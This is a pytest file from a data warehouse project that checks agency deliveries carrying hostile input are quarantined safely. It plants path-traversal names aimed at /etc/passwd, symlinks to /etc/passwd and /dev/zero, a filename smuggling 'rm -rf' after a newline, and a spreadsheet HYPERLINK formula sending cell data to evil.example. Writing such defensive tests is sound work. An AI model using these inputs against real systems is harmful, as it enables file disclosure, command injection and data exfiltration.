"""Hostile or careless deliveries (issue 13): names that leave the agency's folder, links,
FIFOs, devices and folders where files should be, impossible or future dates, manifests built
to crash the parser, raw identifiers hidden inside values, formula text, two runs at once.
Each ends in its state with a message naming the cause; nothing outside the landing folder is
read, quoted or copied; nothing hangs; one delivery's fault never stops another's."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from neglect_warehouse.partnership.ingest.folder import ingest_landing, ingest_reference
from neglect_warehouse.partnership.ingest.pipeline import Options
from neglect_warehouse.partnership.warehouse import Warehouse
from tests.ingest.conftest import OUTSIDE_MARKERS, SECOND
from tests.ingest.test_bad_input import mutate, set_cell

QUARANTINED, WARNINGS, LOADED = "QUARANTINED", "LOADED_WITH_WARNINGS", "LOADED"


def list_in_manifest(case, name: str, agency: str = "police") -> None:
    """The agency's manifest lists ``name`` (with some sha256) in place of its flags file."""
    manifest = json.loads(case.manifest(agency).read_text())
    for entry in manifest["files"]:
        if "__flags__" in entry["name"] or "__referrals__" in entry["name"]:
            entry["name"] = name
    case.manifest(agency).write_text(json.dumps(manifest))


def _parent_path(c):
    list_in_manifest(c, "../../secret.txt")


def _absolute_path(c):
    list_in_manifest(c, "/etc/passwd")


def _other_agency(c):
    list_in_manifest(c, f"../health/health__persons__{SECOND}.csv")


def _other_agency_prefix(c):
    shutil.copy(
        c.path("health", "persons"), c.landing / "police" / f"health__persons__{SECOND}.csv"
    )
    list_in_manifest(c, f"health__persons__{SECOND}.csv")


def _dot(c):
    list_in_manifest(c, ".")


def _nul(c):
    list_in_manifest(c, f"police__flags__{SECOND}.csv\x00.txt")


def _newline(c):
    list_in_manifest(c, f"police__flags__{SECOND}.csv\nrm -rf")


def _other_date(c):
    list_in_manifest(c, "police__flags__20260930.csv")


def replace_flags(c, make) -> None:
    """The flags file replaced by what ``make(path)`` creates; the manifest's sha256 and rows
    still those of the real file, as a careless copy or a hostile agency would leave them."""
    path = c.path("police", "flags")
    path.unlink()
    make(path)


def _link_to_passwd(c):
    replace_flags(c, lambda p: p.symlink_to("/etc/passwd"))


def _link_to_valid_csv_outside(c):
    outside = c.secret.parent / "flags-outside.csv"
    shutil.move(c.path("police", "flags"), outside)
    c.path("police", "flags").symlink_to(outside)


def _link_to_dev_zero(c):
    replace_flags(c, lambda p: p.symlink_to("/dev/zero"))


def _fifo(c):
    replace_flags(c, lambda p: os.mkfifo(p))


def _folder(c):
    replace_flags(c, lambda p: p.mkdir())


def _manifest_is_a_link(c):
    real = c.secret.parent / "manifest-outside.json"
    shutil.move(c.manifest("police"), real)
    c.manifest("police").symlink_to(real)


def _nested_manifest(c):
    c.manifest("police").write_text("[" * 200_000)


def _future_manifest(c):
    # a delivery dated 2099-12-31 (arrived now): after its arrival, and far in the future
    future = "20991231"
    manifest = json.loads(c.manifest("police").read_text())
    manifest["extract_date"] = "2099-12-31"
    for entry in manifest["files"]:
        old = c.landing / "police" / entry["name"]
        entry["name"] = entry["name"].replace(SECOND, future)
        old.rename(c.landing / "police" / entry["name"])
    c.manifest("police").unlink()
    c.manifest("police", future).write_text(json.dumps(manifest))


def _impossible_stamp(c):
    manifest = json.loads(c.manifest("police").read_text())
    manifest["extract_date"] = "2026-02-30"
    c.manifest("police").unlink()
    c.manifest("police", "20260230").write_text(json.dumps(manifest))


def _nhs_number_in_a_list(c):
    def f(rows):
        i = rows[0].index("factors")
        row = next(r for r in rows[1:] if r[i])
        row[i] = "21;9434765919"
        return rows

    mutate(c, "csc", "assessments", f)


def _nhs_number_with_dashes(c):
    mutate(c, "police", "incidents", lambda r: set_cell(r, 3, "incident_type", "943-476-5919"))


def _postcode_with_a_dash(c):
    mutate(c, "police", "incidents", lambda r: set_cell(r, 3, "incident_type", "SW1A-1AA"))


def _formula_in_a_code(c):
    text = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    mutate(c, "police", "incidents", lambda r: set_cell(r, 3, "incident_type", text))


def _control_characters_in_a_code(c):
    mutate(c, "police", "incidents", lambda r: set_cell(r, 3, "incident_type", "ASB\x1b[2J"))


HOSTILE = [
    # (id, agency, how to break it, state, rule, text in the message, a file the run needs)
    ("names_a_parent_path", "police", _parent_path, QUARANTINED, "manifest", "'../../secret"),
    ("names_an_absolute_path", "police", _absolute_path, QUARANTINED, "manifest", "/etc/passwd"),
    ("names_another_agency", "police", _other_agency, QUARANTINED, "manifest", "never a path"),
    ("another_agency_prefix", "police", _other_agency_prefix, QUARANTINED, "manifest", "health__"),
    ("names_dot", "police", _dot, QUARANTINED, "manifest", "'.'"),
    ("name_with_nul", "police", _nul, QUARANTINED, "manifest", "\\x00"),
    ("name_with_newline", "police", _newline, QUARANTINED, "manifest", "\\n"),
    ("names_another_date", "police", _other_date, QUARANTINED, "manifest", "20260930"),
    ("link_to_passwd", "police", _link_to_passwd, QUARANTINED, "not_a_regular_file", "link"),
    (
        "link_to_valid_csv_outside",
        "police",
        _link_to_valid_csv_outside,
        QUARANTINED,
        "not_a_regular_file",
        "symbolic link",
    ),
    ("link_to_dev_zero", "police", _link_to_dev_zero, QUARANTINED, "not_a_regular_file", "link"),
    ("fifo", "police", _fifo, QUARANTINED, "not_a_regular_file", "a FIFO"),
    ("folder_for_a_file", "police", _folder, QUARANTINED, "not_a_regular_file", "a folder"),
    ("manifest_is_a_link", "police", _manifest_is_a_link, QUARANTINED, "manifest", "link"),
    ("nested_manifest", "police", _nested_manifest, QUARANTINED, "manifest", "nests more"),
    ("impossible_date", "police", _impossible_stamp, QUARANTINED, "manifest", "is not a date"),
    ("future_extract_date", "police", _future_manifest, QUARANTINED, "manifest", "2099-12-31"),
    (
        "nhs_number_in_a_list",
        "csc",
        _nhs_number_in_a_list,
        QUARANTINED,
        "identifier_breach",
        "NHS number",
    ),
    (
        "nhs_number_with_dashes",
        "police",
        _nhs_number_with_dashes,
        QUARANTINED,
        "identifier_breach",
        "NHS number",
    ),
    (
        "postcode_with_a_dash",
        "police",
        _postcode_with_a_dash,
        QUARANTINED,
        "identifier_breach",
        "postcode",
    ),
    (
        "formula_in_a_code",  # extracts.md §3a: a code outside its list is loaded and reported
        "police",
        _formula_in_a_code,
        WARNINGS,
        "expect_column_values_to_be_in_set",
        "'=HYPERLINK(",
    ),
    (
        "control_characters_in_a_code",
        "police",
        _control_characters_in_a_code,
        WARNINGS,
        "expect_column_values_to_be_in_set",
        "\\x1b",
    ),
]


# The careless inputs the probe found handled well already, kept in the corpus so they stay so.
def _nul_bytes(c):
    data = c.path("police", "incidents").read_bytes()
    lines = data.split(b"\n")
    lines[4] = lines[4].replace(b",", b"\x00,", 1)
    c.write_text("police", "incidents", b"\n".join(lines))


def _repeated_header(c):
    mutate(c, "police", "flags", lambda r: r[:3] + [r[0]] + r[3:])


def _ten_megabyte_field(c):
    import csv

    csv.field_size_limit(1 << 30)
    mutate(c, "police", "flags", lambda r: set_cell(r, 2, "flag_type", "X" * 10_000_000))


def _agency_mismatch(c):
    manifest = json.loads(c.manifest("police").read_text())
    manifest["agency"] = "health"
    c.manifest("police").write_text(json.dumps(manifest))


def _zero_byte_manifest(c):
    c.manifest("police").write_bytes(b"")


def _latin1_manifest(c):
    text = c.manifest("police").read_text().replace('"1"', '"v\u00e9rsion 1"')
    c.manifest("police").write_bytes(text.encode("latin-1"))


def _truncated_sha256(c):
    manifest = json.loads(c.manifest("police").read_text())
    manifest["files"][0]["sha256"] = manifest["files"][0]["sha256"][:20]
    c.manifest("police").write_text(json.dumps(manifest))


def _absurd_row_count(c):
    manifest = json.loads(c.manifest("police").read_text())
    manifest["files"][0]["rows"] = 10**15
    c.manifest("police").write_text(json.dumps(manifest))


def _same_name_other_case(c):
    shutil.copy(c.path("police", "flags"), c.landing / "police" / f"POLICE__flags__{SECOND}.csv")


HOSTILE += [
    ("nul_bytes", "police", _nul_bytes, WARNINGS, "bad_id", "\\x00"),
    ("repeated_header", "police", _repeated_header, WARNINGS, "bad_date", "'start_date'"),
    ("ten_megabyte_field", "police", _ten_megabyte_field, WARNINGS, "malformed_row", "line"),
    ("agency_mismatch", "police", _agency_mismatch, QUARANTINED, "manifest", "'health'"),
    ("zero_byte_manifest", "police", _zero_byte_manifest, QUARANTINED, "manifest", "not valid"),
    ("latin1_manifest", "police", _latin1_manifest, QUARANTINED, "manifest", "not UTF-8"),
    ("truncated_sha256", "police", _truncated_sha256, QUARANTINED, "sha256_mismatch", "differs"),
    ("absurd_row_count", "police", _absurd_row_count, QUARANTINED, "row_count_mismatch", "says"),
    ("same_name_other_case", "police", _same_name_other_case, LOADED, None, None),
]


def ingest_all(case):
    """What `neglect-warehouse ingest` runs: every manifest of the landing folder."""
    return ingest_landing(case.landing, case.target, Options(case.quarantine), reference=False)


@pytest.mark.parametrize(
    "name, agency, breaker, state, rule, text", HOSTILE, ids=[c[0] for c in HOSTILE]
)
def test_hostile_input(case, name, agency, breaker, state, rule, text):
    before = case.raw_fingerprint()
    breaker(case)
    started = time.monotonic()
    outcomes = ingest_all(case)  # every agency's second delivery, this one broken
    elapsed = time.monotonic() - started
    assert elapsed < 120, elapsed  # nothing hangs (a FIFO, /dev/zero)
    mine = [o for o in outcomes if o.agency == agency]
    assert len(mine) == 1, [o.summary() for o in outcomes]
    outcome = mine[0]
    assert outcome.state == state, outcome.summary()
    if rule is not None:
        found = [f for f in outcome.findings if f.rule == rule]
        assert found, outcome.summary()
        assert any(text in f.message for f in found), [f.message for f in found]
        assert all(f.action for f in found)
    # every message is one escaped line
    for f in outcome.findings:
        assert "\n" not in f.message and "\x00" not in f.message and "\x1b" not in f.message
    # the other agencies' good deliveries in the same landing are loaded in the same run
    others = {o.agency: o.state for o in outcomes if o.agency != agency}
    assert set(others) == {"csc", "police", "health", "probation"} - {agency}
    assert set(others.values()) == {LOADED}, others
    with Warehouse(case.target) as wh:
        recorded = wh.query(
            "select state from raw.deliveries where delivery_id = ?", [outcome.delivery_id]
        )
    assert recorded == [(state,)]
    if state == QUARANTINED:
        after = case.raw_fingerprint()
        broken = {t for t in before if t.startswith(f"raw.{agency}__")}
        assert {t: after[t] for t in broken} == {t: before[t] for t in broken}
    assert case.outside_bytes_found() == []
    if rule == "identifier_breach":  # not even the quarantine copy holds the raw identifier
        assert {p.name for p in outcome.report.iterdir()} == {"report.json", "report.md"}


def test_fifo_and_dev_zero_are_refused_within_seconds(case):
    _fifo(case)
    started = time.monotonic()
    (outcome,) = ingest_landing(
        case.landing, case.target, Options(case.quarantine), agencies=("police",), reference=False
    )
    assert outcome.state == QUARANTINED and time.monotonic() - started < 10
    case.path("police", "flags").unlink()
    case.path("police", "flags").symlink_to("/dev/zero")
    # a new manifest (a corrected delivery), so it is a new delivery
    case.manifest("police").write_text(case.manifest("police").read_text() + " ")
    started = time.monotonic()
    (outcome,) = ingest_landing(
        case.landing, case.target, Options(case.quarantine), agencies=("police",), reference=False
    )
    assert outcome.state == QUARANTINED and time.monotonic() - started < 10


def test_a_future_delivery_never_becomes_current(case, clean_partnership):
    """A delivery dated 2099-12-31 is quarantined, so the genuine one loaded after it is the
    agency's current data."""
    genuine = {p.name: p.read_bytes() for p in (case.landing / "police").iterdir()}
    _future_manifest(case)
    (future,) = ingest_landing(
        case.landing, case.target, Options(case.quarantine), agencies=("police",), reference=False
    )
    assert future.state == QUARANTINED
    for name, data in genuine.items():
        (case.landing / "police" / name).write_bytes(data)
    outcomes = ingest_landing(
        case.landing, case.target, Options(case.quarantine), agencies=("police",), reference=False
    )
    assert [o.state for o in outcomes] == [LOADED]
    with Warehouse(case.target) as wh:
        current = wh.query(
            "select extract_date from raw.current_deliveries where agency = 'police'"
        )
    assert str(current[0][0]) == "2026-10-31"


def test_a_formula_in_a_locality_name_is_rejected_with_file_line_and_column(case, tmp_path):
    landing = tmp_path / "reference-landing"
    shutil.copytree(case.landing / "reference", landing / "reference")
    path = landing / "reference" / "localities.csv"
    lines = path.read_text().splitlines()
    code = lines[1].split(",")[0]
    lines[1] = f'{code},"=HYPERLINK(""http://evil.example"",""Locality"")"'
    path.write_text("\n".join(lines) + "\n")
    outcome = ingest_reference(landing, case.target, Options(case.quarantine))
    assert outcome.state == QUARANTINED
    (bad,) = [f for f in outcome.findings if f.rule == "bad_text"]
    assert (bad.file, bad.line, bad.column) == ("localities.csv", 2, "locality_name")
    assert "spreadsheet would not run" in bad.message


def test_two_ingests_at_once_the_second_says_so_in_one_line(case):
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import duckdb, sys, time; c = duckdb.connect(sys.argv[1]); print('held', "
            "flush=True); time.sleep(60)",
            case.target.location,
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"

        def ingest(*extra):
            return subprocess.run(
                [
                    sys.executable,
                    "-m",
                    "neglect_warehouse.cli",
                    "ingest",
                    "--landing",
                    str(case.landing),
                    "--warehouse",
                    case.target.location,
                    *extra,
                ],
                capture_output=True,
                text=True,
                timeout=120,
            )

        busy = ingest()
        assert busy.returncode == 75, busy.stderr
        lines = busy.stderr.strip().splitlines()
        assert len(lines) == 1 and "in use by another run" in lines[0], busy.stderr
        assert f"process {holder.pid}" in lines[0]
        started = time.monotonic()
        waited = ingest("--wait", "2")
        assert waited.returncode == 75 and time.monotonic() - started >= 2
        assert "after waiting 2 s" in waited.stderr
    finally:
        holder.kill()
        holder.wait()
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "neglect_warehouse.cli",
            "status",
            "--warehouse",
            case.target.location,
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr


@pytest.mark.parametrize("breaker", [_impossible_stamp, _nested_manifest, _dot, _fifo])
def test_a_crashing_manifest_is_recorded_and_the_next_run_moves_on(case, breaker):
    """Formerly uncaught (ValueError, RecursionError, IsADirectoryError) or hanging: now each
    is recorded once, and a repeated run processes nothing twice."""
    breaker(case)
    first = ingest_all(case)
    assert sorted(o.state for o in first) == [LOADED, LOADED, LOADED, QUARANTINED]
    assert ingest_all(case) == []  # nothing new; nothing retried, nothing crashed


def test_outside_markers_are_really_looked_for(case):
    """The check behind every case can fail: a marker copied into the quarantine is found."""
    case.quarantine.mkdir(parents=True, exist_ok=True)
    (case.quarantine / "leak.txt").write_text(OUTSIDE_MARKERS[0])
    assert case.outside_bytes_found()
    Path(case.quarantine / "leak.txt").unlink()
    assert case.outside_bytes_found() == []
